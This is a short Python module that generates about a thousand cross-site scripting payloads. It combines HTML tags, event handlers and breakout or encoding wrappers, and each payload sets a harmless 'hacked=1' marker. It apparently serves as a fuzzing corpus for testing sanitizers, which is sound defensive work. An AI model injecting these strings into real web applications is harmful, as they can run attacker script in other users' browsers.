"""More than a thousand texts that want to run, for every door through which a text comes."""

TAGS = """img src=x|svg|body|iframe srcdoc=x|details open|video src=x|input autofocus|math|a href=x|style"""
EVENTS = "onerror onload onfocus ontoggle onbegin onmouseover onanimationstart"
AROUND = r"""{} "><{}> '><{}> </textarea>{} </script>{} javascript:hacked=1//{} `${{{}}}` &lt;{}&gt;
    <script>hacked=1</script>{} <![CDATA[{}]]> {{{{{}}}}} <template>{}</template> %3C{}%3E \x3c{} <b>{}</b>"""
PAYLOADS = [
    shape.format(f"<{tag} {event}=hacked=1>")
    for tag in TAGS.split("|")
    for event in EVENTS.split()
    for shape in AROUND.split()
]
